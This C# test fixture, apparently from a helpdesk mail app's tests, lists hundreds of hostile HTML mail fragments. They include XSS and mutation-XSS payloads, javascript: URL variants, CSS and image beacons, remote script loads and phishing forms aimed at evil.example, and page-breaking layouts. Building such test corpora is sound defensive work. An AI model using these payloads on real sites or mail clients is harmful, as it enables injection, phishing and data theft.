namespace HelpdeskMail.Helpdesk.Tests.Hosting;

/// <summary>
/// HTML of mails that try to run something, to reach outside, to leave their frame or to break the page. Whatever runs calls <c>hdmRan</c> in every window it
/// can reach; whatever reaches outside asks a host under <c>evil.example</c>.
/// </summary>
public static class HostileMails
{
    private const string Run = "try{top.hdmRan=1}catch(e){}try{parent.hdmRan=1}catch(e){}window.hdmRan=1;alert(1)";

    /// <summary>The mails' bodies.</summary>
    public static IReadOnlyList<string> Fragments { get; } =
    [
        .. Scripts(), .. Addresses(), .. Mutations(), .. Styles(), .. Frames(), .. Forms(), .. Pictures(), .. Layouts(), .. StrangerMails.Fragments,
    ];

    private static IEnumerable<string> Scripts() =>
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT >", $"<script\n>{Run}</script\n foo>", $"<script/x>{Run}</script>", $"<<script>{Run}//<</script>", $"<script src='https://evil.example/x.js'></script>",
        $"<script type=module>import('https://evil.example/m.js');{Run}</script>", $"<script type=importmap>{{\"imports\":{{\"a\":\"https://evil.example/a.js\"}}}}</script>", $"<svg><script xlink:href='data:,{Run}'/></svg>",
        $"<svg><script>{Run.Replace("<", "&lt;", StringComparison.Ordinal)}</script></svg>", $"<svg/onload={Run}>", $"<svg><animate onbegin='{Run}' attributeName=x dur=1s>", $"<svg><set attributeName=onmouseover to='{Run}'>",
        $"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{Run}'></body></foreignObject></svg>", $"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{Run}</script></svg>#x'/></svg>",
        $"<img src=x: onerror='{Run}'>", $"<img src=x: onerror\n=\n'{Run}'>", $"<img src=x:\u000conerror='{Run}'>", $"<img\u00a0src=x: onerror='{Run}'>", $"<img src='x:'onerror='{Run}'>", $"<image src=x: onerror='{Run}'>",
        $"<video><source onerror='{Run}'></video>", $"<video src=x: onerror='{Run}'></video>", $"<audio src=x: onerror='{Run}'></audio>", $"<body onpageshow='{Run}'>x", $"<input autofocus onfocus='{Run}'>", $"<p tabindex=1 autofocus onfocus='{Run}'>x</p>",
        $"<details open ontoggle='{Run}'><summary>x</summary></details>", $"<div popover id=p onbeforetoggle='{Run}'>x</div><button popovertarget=p>y</button>", $"<marquee onstart='{Run}'>x</marquee>", $"<style onload='{Run}'></style>",
        $"<link rel=stylesheet href='data:text/css,' onload='{Run}'>", $"<object data='data:text/html,<script>{Run}</script>'></object>", $"<embed src='data:text/html,<script>{Run}</script>'>", $"<isindex type=image src=x: onerror='{Run}'>",
        $"<p onanimationstart='{Run}' style='animation:x 1s'>x</p>", $"<a onmouseover='{Run}' href='https://evil.example'>x</a>", $"<x onclick='{Run}'>x</x>", $"<custom-element onconnected='{Run}'>x</custom-element>", $"<p on\u0131click='{Run}'>x</p>",
        "<xml><?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?></xml>", $"<?import namespace='t' implementation='https://evil.example/i'?>", $"<!--[if gte IE 4]><script>{Run}</script><![endif]-->", $"<!--#exec cmd='{Run}'--><p>x</p>",
    ];

    private static IEnumerable<string> Addresses() =>
        new[]
        {
            $"javascript:{Run}", $"JaVaScRiPt:{Run}", $" \u0001javascript:{Run}", $"java\nscript:{Run}", $"java\tscript:{Run}", $"java&#x0A;script:{Run}", $"&#106;avascript:{Run}", $"&#x6A&#x61&#x76&#x61script:{Run}", $"javascript&colon;{Run}",
            $"javascript&#58;{Run}", $"jav&NewLine;ascript&Tab;:{Run}", $"\u00a0javascript:{Run}", $"%6Aavascript:{Run}", $"java\0script:{Run}", $"vbscript:msgbox(1)", $"livescript:{Run}", $"mocha:{Run}", $"data:text/html,<script>{Run}</script>",
            $"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", $"DATA:application/xhtml+xml,<x/>", "blob:https://evil.example/1", "filesystem:https://evil.example/1", "file:///etc/passwd", "about:blank", "view-source:https://evil.example", "ms-word:ofe|u|https://evil.example/x.doc",
            "search-ms:query=x&crumb=location:\\\\evil.example\\share", "\\\\evil.example\\share", "//evil.example/x", "/people", "?pictures=true", "#main", "http:\\\\evil.example", "jar:https://evil.example!/x", "intent://evil.example#Intent;end", "tel:javascript:1", "mailto:x@evil.example?subject=%0d%0aBcc:y@evil.example",
        }.SelectMany(address => new[] { $"<a href=\"{address}\">x</a>", $"<img src=\"{address}\">", $"<area href=\"{address}\">", $"<q cite=\"{address}\">x</q>" });

    private static IEnumerable<string> Mutations() =>
    [
        $"<noscript><p title=\"</noscript><img src=x: onerror='{Run}'>\"></noscript>", $"<noembed><p title=\"</noembed><img src=x: onerror='{Run}'>\"></noembed>", $"<noframes><p title=\"</noframes><img src=x: onerror='{Run}'>\"></noframes>",
        $"<style><p title=\"</style><img src=x: onerror='{Run}'>\"></style>", $"<textarea><p title=\"</textarea><img src=x: onerror='{Run}'>\"></textarea>", $"<title><p title=\"</title><img src=x: onerror='{Run}'>\"></title>", $"<xmp><p title=\"</xmp><img src=x: onerror='{Run}'>\"></xmp>",
        $"<iframe><p title=\"</iframe><img src=x: onerror='{Run}'>\"></iframe>", $"<template><p title=\"</template><img src=x: onerror='{Run}'>\"></template>", $"<svg><style><!--</style><img src=x: onerror='{Run}'>--></svg>",
        $"<svg></p><style><a id=\"</style><img src=x: onerror='{Run}'>\">", $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror='{Run}'&gt;\">", $"<math><annotation-xml encoding=\"text/html\"><style><img src=x: onerror='{Run}'></style></annotation-xml></math>",
        $"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror='{Run}'>", $"<svg><desc><template><s><template><style><!--</style><a rel=\"--><img src=x: onerror='{Run}'>\">", $"<select><template><style><!--</style><a rel=\"--></select><img src=x: onerror='{Run}'>\">",
        $"<table><td><select><svg><style><img src=x: onerror='{Run}'></style></svg></select></td></table>", $"<p><svg><title><style><img title=\"</style><img src=x: onerror='{Run}'>\"></style></title></svg></p>", $"<![CDATA[<img src=x: onerror='{Run}'>]]>", $"<svg><![CDATA[><img src=x: onerror='{Run}'>]]></svg>",
        $"<!--><img src=x: onerror='{Run}'>-->", $"<!---><img src=x: onerror='{Run}'>-->", $"<!-- --!><img src=x: onerror='{Run}'>-->", $"<!x><img src=x: onerror='{Run}'>", $"</p/onclick='{Run}'>x", $"<a title=\"`\" alt=\"`><img src=x: onerror='{Run}'>\">x</a>",
        $"<p title='&lt;/p&gt;&lt;img src=x: onerror={Run}&gt;'>x</p>", $"&lt;img src=x: onerror='{Run}'&gt;", $"&amp;lt;script&amp;gt;{Run}", $"+ADw-script+AD4-{Run}+ADw-/script+AD4-", $"\u02bcscript\u02be{Run}", $"\uff1cscript\uff1e{Run}\uff1c/script\uff1e",
        $"<nobr><b><nobr><img src=x: onerror='{Run}'>", "<b><p></b><table><b></p></table><a><table><a>x", $"<frameset><frame src='javascript:{Run}'></frameset>", $"<plaintext><img src=x: onerror='{Run}'>", $"<a href='https://x.example/\"><img src=x: onerror=alert(1)>'>x</a>", $"<p lang='\"><img src=x: onerror={Run}>'>x</p>",
    ];

    private static IEnumerable<string> Styles() =>
    [
        "<style>@import 'https://evil.example/a.css';</style>", "<style>@import url(https://evil.example/b.css);</style>", "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x}</style><p>x</p>", "<style>p[title^=a]{background:url(https://evil.example/a)}</style><p title=abc>x</p>",
        "<style>:has(a){background:url(https://evil.example/h)}</style>", "<style>body{-moz-binding:url(https://evil.example/x.xml#x)}</style>", "<link rel=preload as=image href=https://evil.example/p>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=prerender href=https://evil.example>",
        "<p style=\"background:url(https://evil.example/1)\">x</p>", "<p style=\"background:URL(https://evil.example/1)\">x</p>", "<p style=\"background:u\\rl(https://evil.example/1)\">x</p>", "<p style=\"background:u\\000072l(https://evil.example/1)\">x</p>", "<p style=\"background:ur/**/l(https://evil.example/1)\">x</p>",
        "<p style=\"background-image:image-set('https://evil.example/1' 1x)\">x</p>", "<p style=\"background:-webkit-image-set(url(https://evil.example/1) 1x)\">x</p>", "<p style=\"background:cross-fade(url(https://evil.example/1),red)\">x</p>", "<p style=\"cursor:url(https://evil.example/c),auto\">x</p>",
        "<p style=\"list-style-image:url(https://evil.example/l)\">x</p>", "<p style=\"list-style:url(https://evil.example/l)\">x</p>", "<p style=\"content:url(https://evil.example/c)\">x</p>", "<p style=\"border-image:url(https://evil.example/b) 1\">x</p>", "<p style=\"mask:url(https://evil.example/m)\">x</p>", "<p style=\"filter:url(https://evil.example/f#x)\">x</p>",
        "<p style=\"clip-path:url(https://evil.example/f#x)\">x</p>", "<p style=\"shape-outside:url(https://evil.example/s)\">x</p>", "<p style=\"--a:url(https://evil.example/v);background:var(--a)\">x</p>", "<p style=\"font:1px/1 url(https://evil.example/x)\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"width:e\\xpression(alert(1))\">x</p>",
        "<p style=\"behavior:url(https://evil.example/x.htc)\">x</p>", "<p style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</p>", "<p style=\"background:url('javascript:alert(1)')\">x</p>", "<p style=\"color:red;}body{background:url(https://evil.example/x)\">x</p>", "<p style=\"font-family:'</style><img src=https://evil.example/x>'\">x</p>", "<p style=\"color:red;@import 'https://evil.example/x'\">x</p>",
        "<p style=\"color:&#x22;onclick=alert(1)\">x</p>", "<p style='color:red\n;background\n:\nurl\n(https://evil.example/x)'>x</p>", "<p style=\"color:rgb(0,0,0) url(https://evil.example/x)\">x</p>", "<p style=\"width:calc(1px + attr(title px))\" title=2>x</p>", "<p style=\"background:rgburl(https://evil.example/x)\">x</p>", "<p style=\"background:src('https://evil.example/x')\">x</p>", "<p style=\"background:element(#main)\">x</p>",
        "<font face=\"x;background:url(https://evil.example/x)\">x</font>", "<td background=https://evil.example/t>x</td>", "<body background=https://evil.example/b>x", "<table background=https://evil.example/t style='background:url(https://evil.example/t)'><tr><td>x</table>",
    ];

    private static IEnumerable<string> Frames() =>
    [
        "<iframe src=https://evil.example></iframe>", $"<iframe srcdoc=\"<script>{Run}</script>\"></iframe>", $"<iframe src=\"javascript:{Run}\"></iframe>", "<frameset><frame src=https://evil.example></frameset>", "<portal src=https://evil.example></portal>", "<fencedframe src=https://evil.example></fencedframe>", "<object data=https://evil.example></object>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/r'>", "<meta http-equiv=\"refresh\" content=\"0;javascript:alert(1)\">", "<meta http-equiv=set-cookie content='helpdesk=x'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>",
        "<base href=https://evil.example/ target=_top><a href=x>x</a><img src=y>", "<base target=\"<script>alert(1)</script>\">", "<a href=https://evil.example target=_top>x</a>", "<a href=https://evil.example target=_parent rel=opener>x</a>", "<a href=https://evil.example download=x>x</a>", "<a href=https://evil.example ping=https://evil.example/ping>x</a>", "<a href=https://evil.example attributionsrc=https://evil.example/a>x</a>",
        "</body></html><script>alert(1)</script>", "</div></div></div></div><h1>outside</h1>", "</iframe></iframe><h1>outside</h1>", "</details></body><p>x", "<html><head></head><body></body></html><html onload=alert(1)>", "<a href='https://evil.example/?", "<img src='https://evil.example/?dangling=", "<!-- never closed", "<p title=\"never closed", "<style>never closed",
    ];

    private static IEnumerable<string> Forms() =>
    [
        "<form action=https://evil.example><input name=p type=password autofocus><button>Sign in</button></form>", "<input form=reply-form name=text value=x>", "<button form=reply-form formaction=https://evil.example>x</button>", "<button formaction='javascript:alert(1)'>x</button>", "<input type=image src=https://evil.example/i formaction=https://evil.example>",
        "<select autofocus><option>x</select>", "<textarea autofocus>x</textarea>", "<label for=to>click me</label>", "<output for=to form=reply-form>x</output>", "<fieldset form=reply-form><legend>x</legend></fieldset>", "<dialog open><form method=dialog>x</form></dialog>", "<keygen name=x>", "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
        "<p id=reply-form name=main class=banner>x</p>", "<a id=to name=to>x</a><img name=cookie><img id=getElementById><a id=defaultView><a id=defaultView name=x>", "<p data-live=ticket data-submit data-copy=x data-row>x</p>", "<p accesskey=x contenteditable tabindex=-1>x</p>", "<p slot=x part=y is=z nonce=a itemprop=b>x</p>", "<p popover=manual>x</p>", "<p hidden>x</p>", "<p inert>x</p>", "<p draggable=true>x</p>",
    ];

    private static IEnumerable<string> Pictures() =>
    [
        "<img src=https://evil.example/1.gif>", "<img src='//evil.example/1.gif'>", "<img srcset='https://evil.example/1 1x, https://evil.example/2 2x'>", "<img lowsrc=https://evil.example/1 dynsrc=https://evil.example/2 longdesc=https://evil.example/3 usemap=#m>", "<picture><source srcset=https://evil.example/p><img src=x></picture>",
        "<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>", "<audio src=https://evil.example/a autoplay></audio>", "<track src=https://evil.example/t>", "<svg><image href=https://evil.example/i /></svg>", "<svg><feImage xlink:href=https://evil.example/i /></svg>", "<input type=image src=https://evil.example/i>", "<bgsound src=https://evil.example/b>",
        "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJodHRwczovL2V2aWwuZXhhbXBsZS9pIi8+PC9zdmc+'>", "<img src='data:text/html,<script>alert(1)</script>'>", "<img src='data:image/png;base64,AAAA' onerror=alert(1)>", "<img src=cid:nobody>", "<img src=\"cid:x' onerror='alert(1)\">", "<img src=/sign-out>", "<img src=/attachments/1/inline>", "<img src=mailbox:///x>", "<img src=x is=x-img loading=eager fetchpriority=high crossorigin=use-credentials referrerpolicy=unsafe-url>",
    ];

    private static IEnumerable<string> Layouts() =>
    [
        "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session has ended</div>", "<div style='position:absolute;top:-500px;left:-500px;width:5000px;height:5000px'>x</div>", "<div style='margin:-500px'>x</div>", "<div style='margin-top:calc(0px - 500px)'>x</div>", "<div style='transform:translate(-500px,-500px) scale(50)'>x</div>", "<div style='width:100000px;height:100000px'>x</div>",
        "<div style='min-width:9999999px'>x</div>", "<table width=99999><tr><td nowrap>x</table>", "<img width=99999 height=99999 alt=wide src=https://evil.example/w>", "<pre style='width:99999px'>x</pre>", "<p style='font-size:9999px'>x</p>", "<p style='letter-spacing:9999px'>xx</p>", "<p style='text-indent:calc(-9999px)'>x</p>", "<p style='zoom:100'>x</p>", "<p style='float:left;width:200vw'>x</p>", "<p style='display:contents'>x</p>",
        "<p style='white-space:nowrap'>" + new string('w', 5000) + "</p>", "<p>" + new string('w', 20_000) + "</p>", "<table>" + string.Concat(Enumerable.Repeat("<tr><td>x", 2000)) + "</table>", "<table><tr>" + string.Concat(Enumerable.Repeat("<td>wide", 500)) + "</table>", string.Concat(Enumerable.Repeat("<blockquote>", 3000)) + "deep", string.Concat(Enumerable.Repeat("<table><tr><td>", 800)) + "deep",
        string.Concat(Enumerable.Repeat("<div style='padding:9px;border:9px solid'>", 500)) + "deep", string.Concat(Enumerable.Repeat("<ul><li>", 500)) + "deep", "<p style='direction:rtl;unicode-bidi:bidi-override'>elpmaxe.live</p>", "<p>\u202Etxt.exe</p>", "<p style='color:transparent;font-size:0'>hidden</p>", "<hr width=99999 size=99999>", "<p style='border:99999px solid red'>x</p>", "<p style='line-height:99999'>x</p>", "<p>" + string.Concat(Enumerable.Repeat("Z\u0335\u0321\u0362", 2000)) + "</p>",
    ];
}
